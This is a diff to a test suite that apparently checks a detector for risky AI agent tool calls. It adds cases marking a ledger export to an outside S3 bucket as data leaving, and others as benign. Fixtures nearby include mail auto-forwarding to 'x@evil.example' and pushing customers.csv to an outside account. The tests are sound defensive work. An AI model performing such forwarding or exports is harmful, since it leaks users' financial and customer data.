@@ -139,6 +139,7 @@ describe('grave acts that a manifest, a push, a statement or a rule carries', ()
       'high',
       mail({ enabled: true, emailAddress: 'x@evil.example', disposition: 'trash' }, 'update_auto_forwarding'),
     ],
+    ['sends_out', 'medium', { server: 'finance', tool: 'export_ledger', args: { destination: 's3://drop/x' } }],
     ['sends_out', 'low', put('eve', 'a.md')],
     ['sends_out', 'medium', put('eve', 'customers.csv', 'push_files')],
   ])('tells what %s, %s: %o', (reason, severity, call) => {
@@ -179,6 +180,8 @@ describe('grave acts that a manifest, a push, a statement or a rule carries', ()
     [mail({ action: 'delete', filter_id: 'x' }, 'manage_gmail_filter')],
     [mail({ enabled: false, emailAddress: 'x@evil.example' }, 'update_auto_forwarding')],
     [mail({ name: 'security', jql: 'folder = trash' }, 'create_filter', 'jira')],
+    [{ server: 'finance', tool: 'export_ledger', args: { destination: 'ledger.csv', url: 'https://x.status.dev' } }],
+    [{ server: 'finance', tool: 'export_ledger', args: { destination: 'https://files.acme.internal/x' } }],
     [{ server: 'github', tool: 'create_issue', args: { owner: 'eve', repo: 'x', title: 'a' } }],
   ])('is quiet about %o', (call) => {
     expect(tell(call)).toEqual([]);
